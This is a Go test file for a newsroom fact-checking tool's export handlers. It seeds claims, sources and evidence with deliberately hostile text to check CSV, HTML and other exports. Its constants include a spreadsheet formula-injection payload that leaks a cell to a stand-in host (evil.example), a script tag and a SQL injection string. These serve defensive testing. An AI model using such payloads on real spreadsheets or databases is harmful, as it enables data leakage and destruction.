package handlers_test

import (
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/labstack/echo/v4"

	"claimdesk/handlers"
	"claimdesk/models"
	"claimdesk/models/dbtest"
)

// Hostile text that every export must carry through intact (or, in CSV,
// neutralised against formulas and nothing else).
const (
	hostileFormula = `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`
	hostileCSV     = "Two women were killed, the governor said: \"shells\" hit\nthe village; 'again'"
	hostileHTML    = `<script>alert("x")</script> & <b>bold</b> </script>`
	hostileSQL     = `Robert'); DROP TABLE claims; -- and 1=1`
	hostileArabic  = "قال المتحدث إن القصف أصاب المستشفى"
	hostileCyr     = "Губернатор Вячеслав Гладков заявил, что погибли две женщины"
	hostileChinese = "外交部发言人表示，两名平民遇难 🚀🔥"
)

// exportClock is a settable clock, so sign-offs and reports get distinct times.
type exportClock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *exportClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *exportClock) advance(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

// exportFixture is the whole router on a fresh database, with a token per
// role and a desk's worth of claims.
type exportFixture struct {
	t      *testing.T
	path   string
	url    string // the PostgreSQL database instead of path, when the run uses one
	store  *models.Store
	clock  *exportClock
	e      *echo.Echo
	tokens map[string]string
	users  map[string]*models.User
	story  *models.Story // hostile title, two entries
	story2 *models.Story
	entry1 *models.Entry
	entry2 *models.Entry

	published  *models.Claim // verified, signed off; person; hostile everywhere
	unsigned   *models.Claim // verified, never signed off
	changed    *models.Claim // false, signed off, then changed to misleading
	official   *models.Claim // false, signed off; government; made_at; no reported URL
	anonymous  *models.Claim // misleading, signed off; anonymous source
	open       *models.Claim // unreviewed, not verifiable, story 1
	openOther  *models.Claim // unreviewed, story 2
	formulaOne *models.Claim // unverified; formula-looking text, + - @ prefixes
}

const (
	testBaseURL  = "https://desk.example.org"
	testNewsroom = "The Daily Example"
)

func newExportFixture(t *testing.T, cfg handlers.Config) *exportFixture {
	t.Helper()
	clock := &exportClock{t: time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)}
	path, url := dbtest.Target(t)
	st, err := models.Open(models.Config{Path: path, DatabaseURL: url, Now: clock.now})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	cfg.Logger = slog.New(slog.NewTextHandler(io.Discard, nil))
	e, err := handlers.New(st, cfg)
	if err != nil {
		t.Fatal(err)
	}
	f := &exportFixture{t: t, path: path, url: url, store: st, clock: clock, e: e, tokens: map[string]string{}, users: map[string]*models.User{}}
	ctx := context.Background()
	for _, who := range []struct {
		key, name string
		role      models.Role
	}{
		{"fc", "Fay Checker", models.RoleFactchecker}, {"editor", "Eve Editor", models.RoleEditor},
		{"viewer", "Vic Viewer", models.RoleViewer},
	} {
		u, err := st.CreateUser(ctx, models.NewUser{Name: who.name, Email: who.key + "@desk.test", Role: who.role, Password: "a long enough password"})
		if err != nil {
			t.Fatal(err)
		}
		tok, _, err := st.CreateToken(ctx, u.Email, "test")
		if err != nil {
			t.Fatal(err)
		}
		f.tokens[who.key], f.users[who.key] = tok, u
	}
	fc, ed := f.users["fc"], f.users["editor"]
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	f.story, err = st.CreateStory(ctx, fc, models.StoryInput{Title: ptr("Belgorod live: " + hostileHTML), URL: ptr("https://news.example/live")})
	must(err)
	f.story2, err = st.CreateStory(ctx, fc, models.StoryInput{Title: ptr("Another story")})
	must(err)
	f.entry1, err = st.CreateEntry(ctx, f.story.ID, models.EntryInput{TimeText: "11:03 a.m.", Headline: "Shelling: " + hostileCSV, Body: "b", Position: 1})
	must(err)
	f.entry2, err = st.CreateEntry(ctx, f.story.ID, models.EntryInput{TimeText: "9:15 a.m.", Headline: "Earlier " + hostileArabic, Body: "b", Position: 0})
	must(err)
	person, err := st.CreateSource(ctx, models.SourceInput{Name: ptr("Vyacheslav Gladkov " + hostileCyr), Role: ptr("Governor of Belgorod region"), Kind: ptr("person")})
	must(err)
	gov, err := st.CreateSource(ctx, models.SourceInput{Name: ptr("Ministry of Defence " + hostileChinese), Role: ptr(hostileSQL), Kind: ptr("government")})
	must(err)
	anon, err := st.CreateSource(ctx, models.SourceInput{Name: ptr("a senior official"), Kind: ptr("anonymous")})
	must(err)

	claim := func(story *models.Story, entry *models.Entry, src *models.Source, in models.ClaimInput) *models.Claim {
		t.Helper()
		f.clock.advance(time.Minute)
		in.StoryID, in.SourceID = &story.ID, &src.ID
		if entry != nil {
			in.EntryID = &entry.ID
		}
		c, err := st.CreateClaim(ctx, fc, in)
		must(err)
		return c
	}
	evidence := func(c *models.Claim, stance, url, origin string) {
		t.Helper()
		_, err := st.AddEvidence(ctx, fc, c.ID, models.EvidenceInput{Kind: "document", Stance: stance, URL: url, Title: "t " + hostileHTML, Origin: origin})
		must(err)
	}
	verdict := func(c *models.Claim, v models.Verdict, rationale string) *models.Claim {
		t.Helper()
		cur, err := st.Claim(ctx, c.ID)
		must(err)
		f.clock.advance(time.Minute)
		out, err := st.SetVerdict(ctx, fc, c.ID, models.VerdictChange{Verdict: v, Rationale: rationale, Version: cur.Version})
		must(err)
		return out
	}
	signOff := func(c *models.Claim) {
		t.Helper()
		cur, err := st.Claim(ctx, c.ID)
		must(err)
		f.clock.advance(time.Hour)
		_, err = st.SignOff(ctx, ed, c.ID, cur.Version)
		must(err)
	}

	f.published = claim(f.story, f.entry1, person, models.ClaimInput{Text: ptr("Two women were killed " + hostileCSV + " " + hostileHTML),
		Quote: ptr("\"" + hostileCyr + ",\" he wrote. " + hostileSQL), Verb: ptr("said"), Direct: ptr(true),
		Channel: ptr("on Telegram"), Via: ptr("Reuters"), ReportedURL: ptr("https://t.me/gladkov/1?a=1&b=<2>")})
	evidence(f.published, "supports", "https://www.reuters.example/a", "")
	evidence(f.published, "supports", "https://reuters.example/b", "") // same origin: counts once
	evidence(f.published, "supports", "https://apnews.example/c", "")
	evidence(f.published, "refutes", "https://militia.example/d", "")
	verdict(f.published, models.Verified, "Confirmed by two hospitals "+hostileArabic+" "+hostileHTML)
	signOff(f.published)

	f.unsigned = claim(f.story, f.entry1, person, models.ClaimInput{Text: ptr("A drone hit the substation, still unpublished")})
	evidence(f.unsigned, "supports", "https://example.org/e", "")
	verdict(f.unsigned, models.Verified, "Looks right")

	f.changed = claim(f.story, f.entry2, gov, models.ClaimInput{Text: ptr("The bridge was destroyed, later revised")})
	evidence(f.changed, "refutes", "https://example.org/f", "")
	verdict(f.changed, models.False, "Satellite imagery shows it standing")
	signOff(f.changed)
	verdict(f.changed, models.Misleading, "Partly damaged after all")

	madeAt := time.Date(2026, 11, 24, 22, 30, 0, 0, time.UTC)
	f.official = claim(f.story, f.entry2, gov, models.ClaimInput{Text: ptr(hostileChinese + " 40 drones were shot down"), MadeAt: &madeAt})
	evidence(f.official, "refutes", "https://example.org/g", "")
	verdict(f.official, models.False, "Radar data shows 12")
	signOff(f.official)

	f.anonymous = claim(f.story, nil, anon, models.ClaimInput{Text: ptr("Troops withdrew overnight"), ReportedURL: ptr("https://news.example/anon")})
	evidence(f.anonymous, "context", "https://example.org/h", "")
	verdict(f.anonymous, models.Misleading, "Only one unit moved")
	signOff(f.anonymous)

	f.open = claim(f.story, f.entry1, person, models.ClaimInput{Text: ptr("Power is out in three districts"),
		Verifiability: ptr(models.VerifNotVerifiable), VerifiabilityReason: ptr("no independent access to the area")})
	f.openOther = claim(f.story2, nil, person, models.ClaimInput{Text: ptr("Another story's unconfirmed claim")})
	f.formulaOne = claim(f.story, f.entry1, gov, models.ClaimInput{Text: ptr(hostileFormula), Quote: ptr("+7 (495) 696-88-00 called"),
		Verb: ptr("-claims"), Channel: ptr("@mod_russia"), Via: ptr("=1+1")})
	verdict(f.formulaOne, models.Unverified, "-1 sources")
	return f
}

func ptr[T any](v T) *T { return &v }

// get sends a GET through the whole router as the given user ("" = anonymous).
func (f *exportFixture) get(who, path string) *httptest.ResponseRecorder {
	f.t.Helper()
	req := httptest.NewRequest(http.MethodGet, path, nil)
	if who != "" {
		req.Header.Set("Authorization", "Bearer "+f.tokens[who])
	}
	rec := httptest.NewRecorder()
	f.e.ServeHTTP(rec, req)
	return rec
}

func (f *exportFixture) mustGet(who, path string, want int) *httptest.ResponseRecorder {
	f.t.Helper()
	rec := f.get(who, path)
	if rec.Code != want {
		f.t.Fatalf("GET %s: status %d, want %d: %s", path, rec.Code, want, rec.Body.String())
	}
	return rec
}

// wantClaim is what the store says about a claim, loaded independently of the
// export code: the expected content of every export field.
type wantClaim struct {
	c        *models.Claim
	evidence []models.Evidence // standing only
	urls     []string
	corr     int
	// corrections are the claim's, oldest first.
	corrections []models.Correction
}

// updateLines is the CSV's corrections cell: the update lines, one a line.
func (w wantClaim) updateLines() string {
	lines := make([]string, len(w.corrections))
	for i, c := range w.corrections {
		lines[i] = c.UpdateLine
	}
	return strings.Join(lines, "\n")
}

func (f *exportFixture) want(id int64) wantClaim {
	f.t.Helper()
	ctx := context.Background()
	c, err := f.store.Claim(ctx, id)
	if err != nil {
		f.t.Fatal(err)
	}
	evs, err := f.store.ClaimEvidence(ctx, id)
	if err != nil {
		f.t.Fatal(err)
	}
	cs, err := f.store.Corrections(ctx, models.CorrectionFilter{ClaimID: id, Oldest: true})
	if err != nil {
		f.t.Fatal(err)
	}
	w := wantClaim{c: c, corr: models.Corroboration(evs), corrections: cs}
	for _, ev := range evs {
		if ev.RemovedAt == nil {
			w.evidence = append(w.evidence, ev)
			w.urls = append(w.urls, ev.URL)
		}
	}
	return w
}

// neutral is the CSV rule, restated for the test: a cell a spreadsheet would
// run as a formula gets a leading single quote.
func neutral(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r\n", rune(s[0])) {
		return "'" + s
	}
	return s
}

func rfc3339(t *time.Time) string {
	if t == nil {
		return ""
	}
	return t.UTC().Format(time.RFC3339)
}

func (f *exportFixture) allClaims() []*models.Claim {
	return []*models.Claim{f.published, f.unsigned, f.changed, f.official, f.anonymous, f.open, f.openOther, f.formulaOne}
}
